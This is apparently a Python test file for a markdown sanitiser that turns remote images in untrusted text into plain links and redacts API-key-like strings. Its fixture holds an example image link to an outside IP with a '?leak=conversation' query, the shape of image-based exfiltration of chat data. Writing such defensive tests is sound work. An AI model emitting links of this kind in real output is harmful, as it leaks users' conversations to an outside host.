"""Remote images in untrusted markdown become plain links; the rest of the markdown stays."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from duet_core.safe_markdown import IMAGE_MARK, has_image, safe_markdown
from duet_ui.shared.transcript import shown

TRACK = "![x](http://203.0.113.7/track.png?leak=conversation)"


def test_images_become_links():
    assert (
        safe_markdown(TRACK) == f"[{IMAGE_MARK} x](http://203.0.113.7/track.png?leak=conversation)"
    )
    assert safe_markdown("a ![](u) b") == f"a [{IMAGE_MARK} image](u) b"
    assert (
        safe_markdown("![a][r]\n\n[r]: http://h/i.png")
        == f"[{IMAGE_MARK} a][r]\n\n[r]: http://h/i.png"
    )
    assert not has_image(safe_markdown("!![x](u) !!![y](v)"))  # no image left behind
    assert safe_markdown(None) == ""


def test_other_markdown_is_kept():
    text = "**bold** _it_ [link](http://example.com) `code` ! [not an image](u)\n- item\n# Title"
    assert safe_markdown(text) == text


def test_shown_also_redacts_keys():
    assert "sk-proj-abcdefghijkl" not in shown(f"{TRACK} sk-proj-abcdefghijkl0123")
    assert not has_image(shown(TRACK))


markdownish = st.text(alphabet=st.sampled_from(list("![]()<>`\\ \nab:/h")), max_size=60)


@settings(max_examples=300, deadline=None)
@given(text=st.one_of(markdownish, st.text(max_size=80)))
def test_no_image_survives_and_nothing_else_changes(text):
    out = safe_markdown(text)
    assert not re.search(r"!\[", out)
    assert safe_markdown(out) == out  # idempotent
    if "![" not in text:
        assert out == text
